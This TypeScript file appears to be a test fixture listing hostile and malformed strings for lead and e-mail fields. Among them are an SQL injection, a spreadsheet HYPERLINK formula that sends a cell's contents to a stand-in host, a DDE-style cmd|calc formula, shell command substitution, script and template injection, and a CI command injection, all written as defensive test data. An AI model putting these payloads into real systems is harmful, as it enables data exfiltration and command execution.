/**
 * Texts that people, imports and attackers leave in lead fields, and that
 * break software which glues texts together.
 */
export const hostileTexts: readonly string[] = [
  `O'Brien "the boss", Ann`,
  "'; drop table lead; --",
  '{{lead.Email Address}}',
  '{{{raw}}} {{#each x}}',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '+1+1',
  '@SUM(1+1)*cmd|calc',
  'two\nlines',
  'carriage\r\nreturn',
  'tab\tinside',
  'line\u2028separator',
  'next\u0085line',
  '<script>alert(1)</script>',
  '${7*7} $(id) `id`',
  '%s%n%x \\n \\u0000',
  '😀 Ünïcödé 🇫🇷 👩‍👩‍👧',
  'שלום ‮exe.txt',
  'مرحبا بالعالم',
  '株式会社「テスト」、東京',
  'z̸̡͍a̵͈l̷̲g̴̰o̶̗',
  'zero\u200bwidth\ufeff',
  '::set-output name=x::y',
  '"unfinished quote',
  'trailing backslash \\',
  ' leading and trailing ',
  'NULL',
  'undefined',
  'NaN',
  '-- comment /* open',
  '$$dollar$$ $1',
]

/** Only with dirt: bytes that break parsers of the file itself. */
export const dirtyTexts: readonly string[] = [
  'nul\u0000byte',
  'bare\rreturn',
  'bell\u0007escape\u001b[31mred',
]

/** What stands in e-mail fields and is no address. */
export const brokenEmails: readonly string[] = [
  'Array',
  'n/a',
  'none',
  'test@test',
  '@example.com',
  'a@b.example; c@d.example',
  'mailto:someone@example.com',
  'no at sign.example.com',
]
